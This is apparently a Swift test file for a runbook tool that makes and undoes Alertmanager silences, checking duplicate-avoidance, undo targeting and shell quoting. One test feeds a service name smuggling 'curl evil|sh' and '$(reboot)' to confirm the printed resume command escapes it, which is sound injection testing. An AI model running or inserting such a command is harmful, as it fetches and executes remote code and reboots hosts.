import HandrailCore
import HandrailEngine
import Testing

@testable import Simulation

/// Steps that make silences: every silence that may be there is ended by the undo.
struct SilenceTests {
    /// A run of the runbook that silences, up to its order.
    private func silencing(service: String = "alpha") throws -> (stage: Stage, request: SilenceRequest) {
        var stage = try Stage()
        stage.fire("Noise", unit: "alpha-1", service: service)
        stage.wait(.seconds(5))
        guard case .silence(let request, _)? = stage.orders.last?.order else {
            throw Unexpected(state: stage.state(of: 1), order: stage.orders.last?.order)
        }
        return (stage, request)
    }

    private struct Unexpected: Error {
        let state: RunState?
        let order: Order?
    }

    @Test func aSilenceOfUnknownOutcomeIsNotMadeTwiceAndItsUndoLooksForIt() throws {
        var (stage, request) = try silencing()
        stage.loseAnswer()
        #expect(stage.orders.count == 1)
        guard case .held(_, _, let because) = stage.state(of: 1) else {
            Issue.record("the run is \(String(describing: stage.state(of: 1)))")
            return
        }
        #expect(because.contains("has an unknown outcome: Alertmanager answered 502: bad gateway"))
        stage.ask(.rollBack(run: 1, because: "it may be there"))
        guard case .expireMarked(let mark, _)? = stage.orders.last?.order else {
            throw Unexpected(state: stage.state(of: 1), order: stage.orders.last?.order)
        }
        #expect(mark == request.mark)
        #expect(request.comment.hasSuffix("[\(mark)]"))
        #expect(mark == "handrail run 1, step 1, plan d")
        stage.succeed(printing: "5b http://am:9093")
        #expect(stage.state(of: 1) == nil)
    }

    @Test func theUndoGoesToTheServerOfTheSilence() throws {
        var (stage, _) = try silencing()
        stage.succeed(printing: "5b-1 http://am:9093")
        stage.ask(.cancel(run: 1, because: "no"))
        guard case .expire(let made, _)? = stage.orders.last?.order else {
            throw Unexpected(state: stage.state(of: 1), order: stage.orders.last?.order)
        }
        #expect(made == MadeSilence(identifier: "5b-1", server: "http://am:9093"))
    }

    /// People paste what they are told, and an alert may have chosen the target's name.
    @Test func theCommandThatReleasesATargetIsOneWordForAShell() throws {
        var (stage, _) = try silencing(service: "w2; curl evil|sh #'$(reboot)")
        stage.succeed(printing: "5b-1 http://am:9093")
        stage.ask(.cancel(run: 1, because: "no"))
        stage.fail()
        let told = try #require(stage.told.first { $0.contains("is quarantined") })
        #expect(
            told.hasSuffix(#"when it is fine: handrail resume --target='w2; curl evil|sh #'\''$(reboot)'"#), "\(told)")
    }
}
